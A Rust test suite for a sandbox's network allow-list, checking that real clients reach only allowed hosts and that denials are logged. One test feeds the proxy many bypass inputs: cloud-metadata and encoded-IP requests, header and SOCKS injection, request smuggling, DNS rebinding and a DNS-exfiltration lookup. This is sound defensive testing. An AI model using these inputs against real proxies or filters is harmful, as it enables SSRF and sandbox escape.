//! The network allow-list, with real clients against servers that exist in a namespace of the
//! test's own: what is allowed works, what is not fails at once, and nothing goes out by itself.

#![allow(clippy::unwrap_used)]

mod program;
mod world;

use ringfence_testkit::require;
use serde_json::Value;
use world::World;

/// Real clients, each with what it prints when it worked.
#[test]
fn real_clients_reach_what_is_allowed_and_nothing_else() {
    let Some(world) = World::new() else { return };
    let ca = world.authority().display().to_string();
    let cargo = env!("CARGO");
    let clients: Vec<(&str, &str, String)> = vec![
        ("curl", "the page", "curl -sS http://HOST/page".to_owned()),
        (
            "curl",
            "the page",
            format!("curl -sS --cacert {ca} https://HOST/page"),
        ),
        (
            "curl",
            "the page",
            format!(
                "curl -sS --proxy socks5h://${{HTTP_PROXY#http://}} --cacert {ca} https://HOST/page"
            ),
        ),
        (
            "wget",
            "the page",
            format!("wget -q -O- --tries=1 --ca-certificate={ca} https://HOST/page"),
        ),
        (
            "git",
            "from the repository",
            format!(
                "d=$(mktemp -d ./XXXXXX) && git -c http.sslCAInfo={ca} clone -q https://HOST/repository.git $d/r && cat $d/r/file"
            ),
        ),
        (
            "python3",
            "from the wheel",
            format!(
                "rm -rf t && python3 -m pip -q --disable-pip-version-check install --no-cache-dir --retries 0 --cert {ca} --index-url https://HOST/simple --target t tiny-thing; PYTHONPATH=t python3 -c 'import tiny_thing; print(tiny_thing.WORD)'"
            ),
        ),
        (
            "python3",
            "the page",
            format!(
                "python3 -c 'import urllib.request, ssl; print(urllib.request.urlopen(\"https://HOST/page\", context=ssl.create_default_context(cafile=\"{ca}\")).read().decode())'"
            ),
        ),
        (
            "npm",
            "from the tarball",
            format!(
                "rm -rf n && mkdir n && cd n && npm install --silent --fetch-retries=0 --no-audit --no-fund --cafile={ca} --cache=./cache --registry=https://HOST/ tiny-thing && node -p 'require(\"tiny-thing\")'"
            ),
        ),
        (
            "cargo",
            "from the crate",
            format!(
                "rm -rf c && mkdir -p c/src && cd c && touch src/lib.rs && printf '[package]\\nname=\"c\"\\nversion=\"0.1.0\"\\nedition=\"2021\"\\n[dependencies]\\ntiny-thing={{version=\"1.0\",registry=\"test\"}}\\n' > Cargo.toml && mkdir .cargo && printf '[registries.test]\\nindex=\"sparse+https://HOST/index/\"\\n[net]\\nretry=0\\n' > .cargo/config.toml && export RUSTC=$(dirname {cargo})/rustc CARGO_HOME=$PWD/home CARGO_HTTP_CAINFO={ca} && {cargo} -q fetch && cat home/registry/src/*/tiny-thing-1.0.0/src/lib.rs"
            ),
        ),
    ];
    let host_of = |program: &str, text: &str| match (program, text.contains(" pip ")) {
        ("git", _) => "git.test",
        ("npm", _) => "npm.test",
        ("cargo", _) => "crates.test",
        (_, true) => "pypi.test",
        _ => "allowed.test",
    };
    for (program, expected, text) in &clients {
        if !require::has_program(program) {
            require::missing(program, "a real client of the allow-list");
            continue;
        }
        let host = host_of(program, text);
        let text = text.replace("HOST", host);
        let ran = world.bash(&[host], &text);
        assert!(ran.stdout.contains(expected), "{text}: {ran:?}");
        // The same, with another host allowed.
        world.forget();
        let ran = world.bash(&["elsewhere.test"], &text);
        assert!(!ran.stdout.contains(expected), "{text}: {ran:?}");
        assert!(
            ran.stderr.contains(&format!("denied: {host}:")),
            "{text}: {ran:?}"
        );
        assert_eq!(world.seen(), Vec::<String>::new(), "{text}");
    }
}

const SOCKET_CLIENT: &str = r#"python3 -c '
import os, socket
host, port = os.environ["HTTP_PROXY"].removeprefix("http://").split(":")
s = socket.create_connection((host, int(port)))
s.sendall(b"CONNECT allowed.test:7000 HTTP/1.1\r\n\r\n")
print(s.recv(4096).split(b"\r\n")[0].decode())
s.sendall(b"hello")
print(s.recv(4096).decode())
'"#;

#[test]
fn a_socket_client_reaches_a_port_that_is_named() {
    let Some(world) = World::new() else { return };
    let ran = world.bash(&["allowed.test:7000"], SOCKET_CLIENT);
    assert_eq!(
        ran.stdout, "HTTP/1.1 200 Connection established\nhello\n",
        "{ran:?}"
    );
    // The web alone is allowed here: what is not HTTP or TLS does not pass.
    let ran = world.bash(&["allowed.test"], SOCKET_CLIENT);
    assert!(!ran.stdout.contains("\nhello"), "{ran:?}");
}

/// A program's own time, for clients that start fast enough to be timed as a whole.
fn timed(command: &str) -> String {
    format!(
        "for i in 1 2 3; do s=${{EPOCHREALTIME/./}}; {command} >&2; e=${{EPOCHREALTIME/./}}; echo $((e - s)); done; true"
    )
}

/// A piece of Python, timed without the start of the interpreter.
fn timed_python(prepare: &str, piece: &str) -> String {
    format!(
        "python3 - <<'EOF'\nimport os, socket, time\n{prepare}\nhost, port = os.environ[\"HTTP_PROXY\"].removeprefix(\"http://\").split(\":\")\nproxy = (host, int(port))\nfor i in range(3):\n    began = time.monotonic()\n    try:\n        {piece}\n    except OSError: pass\n    print(int((time.monotonic() - began) * 1e6))\nEOF"
    )
}

/// Clients that are refused a host, each of which prints three times in microseconds.
fn refused_clients() -> Vec<(&'static str, &'static str, String)> {
    let curl = |more: &str| {
        format!(
            "for i in 1 2 3; do curl -s -o /dev/null -w '%{{time_total}}\\n' {more} | tr -d .; done; true"
        )
    };
    let exchange = |bytes: &str| {
        let piece =
            format!("s = socket.create_connection(proxy); s.sendall({bytes}); assert s.recv(4096)");
        timed_python("", &piece)
    };
    let node = "node -e '\nconst http = require(\"http\"), {hostname: host, port} = new URL(process.env.HTTP_PROXY);\nconst once = (left) => { if (!left) return; const began = process.hrtime.bigint();\n  const ask = http.request({host, port, method: \"CONNECT\", path: \"other.test:443\"});\n  const end = (answer) => { if (answer.statusCode === 403) console.log(Number((process.hrtime.bigint() - began) / 1000n)); once(left - 1); };\n  ask.on(\"connect\", end); ask.on(\"response\", end); ask.end(); };\nonce(3);'";
    vec![
        ("curl", "other.test:80", curl("http://other.test/")),
        ("curl", "other.test:443", curl("https://other.test/")),
        ("curl", "203.0.113.66:80", curl("http://203.0.113.66/")),
        (
            "curl",
            "169.254.169.254:80",
            curl("http://169.254.169.254/"),
        ),
        (
            "curl",
            "other.test:443",
            curl("--proxy socks5h://${HTTP_PROXY#http://} https://other.test/"),
        ),
        (
            "wget",
            "other.test:80",
            timed("wget -q -O- --tries=1 http://other.test/"),
        ),
        (
            "wget",
            "other.test:443",
            timed("wget -q -O- --tries=1 --no-check-certificate https://other.test/"),
        ),
        (
            "git",
            "other.test:443",
            timed("git ls-remote -q https://other.test/repository.git"),
        ),
        (
            "python3",
            "other.test:443",
            exchange("b\"CONNECT other.test:443 HTTP/1.1\\r\\n\\r\\n\""),
        ),
        (
            "python3",
            "other.test:7000",
            exchange("b\"CONNECT other.test:7000 HTTP/1.1\\r\\n\\r\\n\""),
        ),
        (
            "python3",
            "other.test:80",
            timed_python(
                "import urllib.request",
                "urllib.request.urlopen(\"http://other.test/\")",
            ),
        ),
        (
            "python3",
            "other.test:443",
            timed_python(
                "from pip._vendor import requests",
                "requests.get(\"https://other.test/simple/\")",
            ),
        ),
        ("node", "other.test:443", node.to_owned()),
    ]
}

#[test]
fn what_is_not_allowed_fails_within_100_milliseconds() {
    let Some(world) = World::new() else { return };
    // By itself there is no way at all, which shows at once too.
    let direct = "for i in 1 2 3; do curl --noproxy '*' -s -o /dev/null -w '%{time_total}\\n' http://203.0.113.10/ | tr -d .; done; true";
    let mut clients = refused_clients();
    clients.push(("curl", "", direct.to_owned()));
    for (program, subject, text) in clients {
        if !require::has_program(program) {
            require::missing(program, "a real client that is refused");
            continue;
        }
        let ran = world.bash(&["allowed.test"], &text);
        let times: Vec<u64> = ran
            .stdout
            .lines()
            .map(|line| line.parse().unwrap_or_else(|_| panic!("{text}: {ran:?}")))
            .collect();
        assert_eq!(times.len(), 3, "{text}: {ran:?}");
        // The machine may be busy: the best of three is what the fence itself takes.
        let best = times.iter().min().unwrap();
        println!("{program} {subject}: {best} us");
        assert!(*best < 100_000, "{text}: {ran:?}");
        if !subject.is_empty() {
            let denied = ran.stderr.contains(&format!("denied: {subject}"));
            assert!(denied, "{text}: {ran:?}");
        }
    }
    assert_eq!(world.seen(), Vec::<String>::new());
}

/// Sends bytes to the proxy, prints the first line of the answer.
fn raw(bytes: &str) -> String {
    format!(
        "python3 - <<'EOF'\nimport os, socket\nhost, port = os.environ[\"HTTP_PROXY\"].removeprefix(\"http://\").split(\":\")\ns = socket.create_connection((host, int(port)))\ns.sendall({bytes})\ns.settimeout(5)\nout = b\"\"\ntry:\n    while (part := s.recv(65536)): out += part\nexcept OSError: pass\nprint(out.decode(\"latin-1\"))\nEOF"
    )
}

/// Ways around a list that has `allowed.test`, `*.wild.test`, `private.test`, `rebind.test`,
/// `two.test`, `mapped.test`, `metadata.test` and `loop.test` on it.
#[test]
fn ways_around_the_list_lead_nowhere() {
    let Some(world) = World::new() else { return };
    let hosts = [
        "allowed.test",
        "*.wild.test",
        "private.test",
        "two.test",
        "mapped.test",
        "metadata.test",
        "loop.test",
        "rebind.test",
    ];
    let connect = |to: &str| raw(&format!("b\"CONNECT {to} HTTP/1.1\\r\\n\\r\\n\""));
    let attempts: Vec<(&str, String)> = vec![
        ("a private address behind an allowed name", "curl -sS http://private.test/page".into()),
        ("a metadata address behind an allowed name", "curl -sS http://metadata.test/page".into()),
        ("this machine behind an allowed name", "curl -sS http://loop.test/page".into()),
        ("a mapped address behind an allowed name", "curl -sS http://mapped.test/page".into()),
        ("the apex of a wildcard", "curl -sS http://wild.test/page".into()),
        ("a name that ends alike", "curl -sS http://evilallowed.test/page".into()),
        ("a metadata address", "curl -sS http://169.254.169.254/page".into()),
        ("a number", "curl --noproxy x -sS -x $HTTP_PROXY http://2852039166/page".into()),
        ("a number of the machine", raw("b\"GET http://2130706433/page HTTP/1.1\\r\\n\\r\\n\"")),
        ("hexadecimal", raw("b\"GET http://0x7f.1/page HTTP/1.1\\r\\n\\r\\n\"")),
        ("few parts", connect("127.1:80")),
        ("a mapped address", connect("[::ffff:127.0.0.1]:80")),
        ("a zone", connect("[fe80::1%25lo]:80")),
        ("a NUL", connect("allowed.test\\0.other.test:80")),
        ("a line break in SOCKS", raw("bytes([5,1,0,5,1,0,3,24])+b\"allowed.test\\r\\nother.test\"+bytes([0,80])")),
        ("a user before the host", raw("b\"GET http://allowed.test@other.test/page HTTP/1.1\\r\\n\\r\\n\"")),
        ("more than 255 characters", connect(&format!("{}.test:80", "a.".repeat(200)))),
        ("a proxy behind an allowed host", raw("b\"CONNECT allowed.test:3128 HTTP/1.1\\r\\n\\r\\nCONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test:443\\r\\n\\r\\n\"")),
        ("the same in plain HTTP", raw("b\"CONNECT allowed.test:3128 HTTP/1.1\\r\\n\\r\\nGET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n\"")),
        ("another host inside a tunnel", raw("b\"CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\nGET /page HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n\"")),
        ("another host in TLS", "curl -sk --connect-to other.test:443:allowed.test:443 https://other.test/page".into()),
        ("a second request behind the first", raw("b\"GET http://allowed.test/missing HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://other.test/page HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n\"")),
        ("a request in the body of another", raw("b\"POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /page HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n\"")),
        ("datagrams", "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (\"203.0.113.66\", 53))'".into()),
        ("a name server", "python3 -c 'import socket; socket.getaddrinfo(\"secret.exfiltrated.test\", 80)'".into()),
        ("MPTCP", "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(2); s.connect((\"203.0.113.10\", 80)); s.sendall(b\"GET /page HTTP/1.0\\r\\n\\r\\n\"); print(s.recv(999))'".into()),
    ];
    for (what, text) in &attempts {
        world.forget();
        let ran = world.bash(&hosts, text);
        assert!(!ran.stdout.contains("the page"), "{what}: {ran:?}");
        let reached: Vec<String> = world
            .seen()
            .into_iter()
            // Allowed names are looked up, the first of two requests is allowed, and so is a
            // connection to an allowed host that nothing is said on.
            .filter(|line| line != "relay " && !line.starts_with("dns mapped.test") && !line.contains("GET /missing host=allowed.test"))
            .collect();
        assert_eq!(reached, Vec::<String>::new(), "{what}: {ran:?}");
    }
    // The harmless twins: the same names, where they lead somewhere ordinary.
    for url in [
        "http://allowed.test/page",
        "http://ALLOWED.test./page",
        "http://sub.wild.test/page",
        "http://two.test/page",
    ] {
        world.forget();
        let ran = world.bash(&hosts, &format!("curl -sS {url}"));
        assert_eq!(ran.stdout, "the page\n", "{url}: {ran:?}");
        assert!(
            world
                .seen()
                .iter()
                .any(|line| line.starts_with("http 203.0.113.10 GET /page")),
            "{url}"
        );
    }
}

#[test]
fn a_name_is_looked_up_once_and_never_reached_elsewhere() {
    let Some(world) = World::new() else { return };
    for round in 0..6 {
        world.forget();
        let ran = world.bash(&["rebind.test"], "curl -sS http://rebind.test/page");
        let seen = world.seen();
        let asked = seen
            .iter()
            .filter(|line| *line == "dns rebind.test 1")
            .count();
        assert_eq!(asked, 1, "{round}: {seen:?} {ran:?}");
        let private = seen.iter().any(|line| line.contains("10.9.9.9"));
        assert!(!private, "{round}: {seen:?}");
        // Every other answer is the private address, and is refused.
        let worked = ran.stdout == "the page\n";
        assert_eq!(worked, round % 2 == 0, "{round}: {ran:?}");
    }
}

#[test]
fn bodies_and_keep_alive_go_through() {
    let Some(world) = World::new() else { return };
    for (text, expected) in [
        ("curl -sS -d abc http://allowed.test/", "got 3 bytes\n"),
        (
            "head -c 3000000 /dev/zero | curl -sS -T - -X POST http://allowed.test/",
            "got 3000000 bytes\n",
        ),
        (
            "curl -sS http://allowed.test/page http://allowed.test/page",
            "the page\nthe page\n",
        ),
        ("curl -sS http://allowed.test/large | wc -c", "4194304\n"),
        ("curl -sSk https://allowed.test/large | wc -c", "4194304\n"),
        (
            "curl -sSI http://allowed.test/page | head -1",
            "HTTP/1.1 200 OK\r\n",
        ),
        ("curl -sS -0 http://allowed.test/page", "the page\n"),
    ] {
        let ran = world.bash(&["allowed.test"], text);
        assert_eq!(ran.stdout, expected, "{text}: {ran:?}");
    }
}

#[test]
fn a_refusal_is_in_the_reply_and_in_the_log_below_its_call() {
    let Some(world) = World::new() else { return };
    let arguments =
        r#"{"command": "curl -s http://allowed.test/page; curl -s http://other.test/page"}"#;
    let ran = world.output(&[
        "call",
        "--approval",
        "on-failure",
        "--approve",
        "none",
        "--allow-host",
        "allowed.test",
        "bash",
        arguments,
    ]);
    let reply: Value = serde_json::from_str(&ran.stdout).unwrap();
    let denial = &reply["denials"][0];
    assert_eq!(denial["kind"], "host", "{reply}");
    assert_eq!(denial["subject"], "other.test:80", "{reply}");
    assert!(
        reply["stdout"]
            .as_str()
            .unwrap()
            .contains("ringfence: other.test:80: the user said no"),
        "{reply}"
    );
    let log = world.output(&["audit", "show", "--json"]);
    let records: Vec<Value> = log
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let connections: Vec<&Value> = records
        .iter()
        .filter(|record| record["event"] == "intent" && record["tool"] == "connect")
        .collect();
    assert_eq!(connections.len(), 2, "{log:?}");
    for (record, verdict) in connections.iter().zip(["allow", "deny"]) {
        assert_eq!(record["verdict"], verdict, "{record}");
        let parent = record["parent"].as_str().unwrap();
        let call = records
            .iter()
            .find(|one| one["call"] == parent && one["tool"] == "bash");
        assert!(call.is_some(), "{record}");
    }
    let ended = records
        .iter()
        .find(|record| record["event"] == "connection_ended")
        .unwrap();
    assert_eq!(ended["connections"], 1, "{ended}");
    assert!(world.output(&["audit", "verify"]).code == Some(0));
}

const SECRET: &str = "s3cret-value-that-never-enters";

#[test]
fn an_added_header_reaches_its_host_and_no_other() {
    let Some(world) = World::new() else { return };
    let config = world.place.home().join(".config/ringfence");
    std::fs::create_dir_all(&config).unwrap();
    for (tls, url) in [
        ("false", "http://api.test/page"),
        ("true", "https://api.test/page"),
    ] {
        std::fs::write(
            config.join("config.toml"),
            format!(
                "[sandbox]\nnetwork = \"allow-list\"\n[approval]\npolicy = \"never\"\n[environment]\ninherit = \"all\"\n\
                 [network]\nallow = [\"*.test\"]\nterminate_tls = {tls}\n[network.inject]\n\"api.test\" = \"Authorization: Bearer ${{API_THING}}\"\n"
            ),
        )
        .unwrap();
        world.forget();
        let text = format!(
            "curl -sS -H 'Authorization: mine' {url}; curl -sS http://allowed.test/page; curl -sS http://sub.wild.test/page"
        );
        let ran = world
            .ringfence(&["run", "--", "bash", "-c", &text])
            .env("API_THING", SECRET)
            .env("SSL_CERT_FILE", world.authority())
            .output()
            .unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&ran.stdout),
            String::from_utf8_lossy(&ran.stderr),
        );
        assert_eq!(stdout, "the page\nthe page\nthe page\n", "{stderr}");
        let seen = world.seen();
        let scheme = url.split(':').next().unwrap();
        let expected =
            format!("{scheme} 203.0.113.10 GET /page host=api.test token=Bearer {SECRET}");
        assert!(seen.contains(&expected), "{seen:?}");
        let elsewhere = seen.iter().filter(|line| line.contains(SECRET)).count();
        assert_eq!(elsewhere, 1, "{seen:?}");
    }
}

#[test]
fn a_header_whose_variable_is_missing_is_an_error() {
    let place = program::Place::new();
    let ran = place
        .ringfence(&["run", "--allow-host", "api.test", "--", "true"])
        .env(
            "RINGFENCE_NETWORK_INJECT",
            "{ \"api.test\" = \"X-Key: ${NOT_THERE}\" }",
        )
        .output()
        .unwrap();
    assert_eq!(ran.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&ran.stderr).contains("needs the variable NOT_THERE"));
}

const CONNECT_UNIX: &str = r#"python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(open("path").read()); print(s.recv(9).decode())'"#;

#[test]
fn sockets_by_path_are_reached_one_by_one() {
    use std::io::Write;
    use std::os::unix::net::UnixListener;
    let place = program::Place::new();
    let own = format!("ringfence-test-{}", std::process::id());
    let mut paths = vec![
        place.outside().join("daemon.sock"),
        std::path::PathBuf::from("/tmp")
            .join(&own)
            .join("agent.sock"),
    ];
    if ringfence_testkit::identity::is_root() {
        paths.push(
            std::path::PathBuf::from("/run")
                .join(&own)
                .join("docker.sock"),
        );
    } else {
        require::missing("root", "a socket in /run");
    }
    for path in &paths {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let listener = UnixListener::bind(path).unwrap();
        std::thread::spawn(move || {
            for client in listener.incoming() {
                let _ = client.and_then(|mut client| client.write_all(b"hello"));
            }
        });
    }
    std::fs::write(place.work().join("deed.sh"), CONNECT_UNIX).unwrap();
    for allowed in &paths {
        let flag = allowed.display().to_string();
        for path in &paths {
            std::fs::write(place.work().join("path"), path.display().to_string()).unwrap();
            let ran = place.output(&[
                "run",
                "--approval",
                "never",
                "--allow-socket",
                &flag,
                "--",
                "bash",
                "deed.sh",
            ]);
            assert_eq!(
                ran.stdout == "hello\n",
                path == allowed,
                "{flag} {}: {ran:?}",
                path.display()
            );
        }
    }
    for path in &paths[1..] {
        std::fs::remove_dir_all(path.parent().unwrap()).unwrap();
    }
}
